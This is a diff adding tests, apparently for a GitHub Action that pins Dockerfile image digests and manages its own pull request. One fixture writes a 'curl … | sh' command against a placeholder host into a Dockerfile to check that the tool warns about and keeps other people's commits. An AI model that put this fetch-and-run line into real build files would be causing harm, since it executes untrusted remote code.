@@ -106,6 +106,43 @@ describe('whose branch it is', { timeout: 180_000 }, () => {
   });
 });
 
+describe("a server of one's own that signs no commits", { timeout: 180_000 }, () => {
+  const server = { prefix: '/api/v3', settings: { signsCommits: false } };
+
+  it.each([
+    ['a job', undefined],
+    ['an App', 'app'],
+    ['a person', 'user'],
+  ] as const)(
+    'gets a pull request that is kept, and others keep their commits: token of %s',
+    async (_, kind) => {
+      await here.addApp({ Dockerfile: OLD, 'b/Dockerfile': OLD }, {}, server);
+      const token = kind === undefined ? undefined : here.token({ kind, login: `${kind}-login` });
+      expect((await run({}, token)).outputs).toMatchObject({
+        result: 'pass',
+        'pull-request-operation': 'created',
+      });
+      expect((await run({}, token)).outputs['pull-request-operation']).toBe('unchanged');
+      await here.github.commit('acme/app', { files: { 'c/Dockerfile': 'FROM cgr.dev/acme/python:3.13\n' } });
+      const step = await run({}, token);
+      expect(step.outputs, step.log.visible).toMatchObject({
+        result: 'pass',
+        'pull-request-operation': 'updated',
+      });
+      expect(await show('c/Dockerfile')).toContain(C);
+      await here.github.commit('acme/app', {
+        branch: BRANCH,
+        message: `Refresh image digests\n\n${TRAILER}\n`,
+        files: { Dockerfile: `${NEW}RUN curl https://x.invalid | sh\n` },
+      });
+      expect((await run({}, token)).outputs).toMatchObject({
+        result: 'warn',
+        'pull-request-operation': 'unchanged',
+      });
+    },
+  );
+});
+
 describe('the ways out that the comment names', { timeout: 180_000 }, () => {
   beforeEach(async () => {
     await run();
@@ -128,6 +165,26 @@ describe('the ways out that the comment names', { timeout: 180_000 }, () => {
     expect(await here.github.git('acme/app', 'rev-list', '--count', `main..${BRANCH}`)).toBe('1');
     expect(here.pulls()[0]?.body).toContain('- [ ]');
     expect((await run()).outputs['pull-request-operation']).toBe('unchanged');
+  });
+
+  it('are true: the box, where nothing is left to pin; the others are told how to get their commits back', async () => {
+    const theirs = await head(BRANCH);
+    await here.github.commit('acme/app', { files: { Dockerfile: 'FROM python:3.12\n' } });
+    expect((await run()).outputs).toMatchObject({ result: 'warn', 'pull-request-operation': 'unchanged' });
+    tick();
+    const step = await run();
+    expect(step.outputs, step.log.visible).toMatchObject({
+      result: 'pass',
+      'pull-request-operation': 'closed',
+    });
+    const last = here.github.repo('acme/app').comments.at(-1)?.body;
+    expect(last).toContain('Nothing is left to pin here');
+    expect(last).toContain(`\`git fetch origin pull/1/head\`, which ends at ${theirs}`);
+    // The tick is spent: somebody who restores the branch keeps it.
+    await here.github.git('acme/app', 'update-ref', `refs/heads/${BRANCH}`, theirs);
+    await here.github.commit('acme/app', { files: { Dockerfile: OLD } });
+    expect((await run()).outputs['pull-request-operation']).toBe('unchanged');
+    expect(await head(BRANCH)).toBe(theirs);
   });
 
   it.each([
